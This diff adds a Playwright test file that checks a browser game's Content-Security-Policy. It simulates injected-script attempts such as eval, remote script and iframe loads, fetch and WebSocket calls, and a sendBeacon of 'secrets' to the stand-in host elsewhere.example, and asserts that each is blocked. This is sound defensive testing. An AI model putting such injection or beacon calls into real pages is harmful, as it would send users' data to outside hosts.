@@ -1,0 +1,81 @@
+// The Content-Security-Policy of each document: the page breaks it nowhere, and what the page does not need is refused.
+import { expect, test } from "./fixtures.mts";
+
+const HEARD = `globalThis.broken = [];
+  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => broken.push(effectiveDirective + " " + blockedURI));`;
+
+/** What a script that got into the page might try, by the directive that refuses it. */
+async function attacked() {
+  const far = "https://elsewhere.example/x";
+  const added = (name: string, given: Record<string, string>) => {
+    const element = Object.assign(document.createElement(name), given);
+    document.body.append(element);
+    return element;
+  };
+  const tries: [string, () => unknown][] = [
+    ["script-src", () => (0, eval)("globalThis.ran = true")],
+    ["script-src", () => new Function("globalThis.ran = true")()],
+    ["script-src-elem", () => added("script", { textContent: "globalThis.ran = true" })],
+    ["script-src-elem", () => added("script", { src: far })],
+    [
+      "script-src-attr",
+      () => {
+        const button = added("button", {});
+        button.setAttribute("onclick", "globalThis.ran = true");
+        button.click();
+      },
+    ],
+    ["style-src-elem", () => added("style", { textContent: "body { color: red }" })],
+    ["style-src-attr", () => document.body.setAttribute("style", "color: red")],
+    ["img-src", () => added("img", { src: far })],
+    ["media-src", () => added("audio", { src: far })],
+    ["frame-src", () => added("iframe", { src: far })],
+    ["object-src", () => added("object", { data: far })],
+    ["base-uri", () => added("base", { href: far })],
+    ["connect-src", () => fetch(far)],
+    ["connect-src", () => fetch(location.href)],
+    ["connect-src", () => new WebSocket("wss://elsewhere.example")],
+    ["connect-src", () => navigator.sendBeacon(far, "secrets")],
+    ["worker-src", () => new Worker("data:text/javascript,1")],
+    ["font-src", () => new FontFace("far", `url(${far})`).load()],
+  ];
+  // What a debugger says at once may do more than a script may.
+  await new Promise((done) => setTimeout(done));
+  const broken: string[] = (globalThis as any).broken;
+  const missed: string[] = [];
+  for (const [directive, attempt] of tries) {
+    broken.length = 0;
+    try {
+      await attempt();
+    } catch {
+      // Some are refused by an error, too.
+    }
+    for (let n = 0; n < 40 && !broken.length; n++) await new Promise((done) => setTimeout(done, 25));
+    if (!broken.some((what) => what.startsWith(`${directive} `))) missed.push(`${directive} ${attempt}: ${broken}`);
+  }
+  return { missed, tried: tries.length, ran: "ran" in globalThis };
+}
+
+for (const place of ["http", "one file over http", "file, index.html", "file, deckmate.html"] as const) {
+  test(`the page breaks its policy nowhere: ${place}`, async ({ open }) => {
+    const { frame } = await open(place, { hash: "#g=chess-storm&seed=policy&seats=hh&o=open_hands:true", script: HEARD });
+    await frame.locator('#board [data-square="e2"]').click();
+    await frame.locator('#board [data-square="e4"]').click();
+    await expect(frame.locator("#log li")).not.toHaveCount(0);
+    await frame.click('[data-test="leave"]');
+    await expect(frame.locator("#home")).toBeVisible();
+    expect(await frame.evaluate("globalThis.broken")).toEqual([]);
+  });
+}
+
+for (const place of ["http", "one file over http"] as const) {
+  test(`the policy refuses what the page does not need: ${place}`, async ({ browser, browserName, places }) => {
+    test.skip(browserName !== "chromium", "each browser names some directives in its own way");
+    const page = await browser.newPage();
+    await page.addInitScript(HEARD);
+    await page.goto(places.at[place](""));
+    await page.waitForSelector("#home");
+    expect(await page.evaluate(attacked)).toEqual({ missed: [], tried: 18, ran: false });
+    await page.close();
+  });
+}
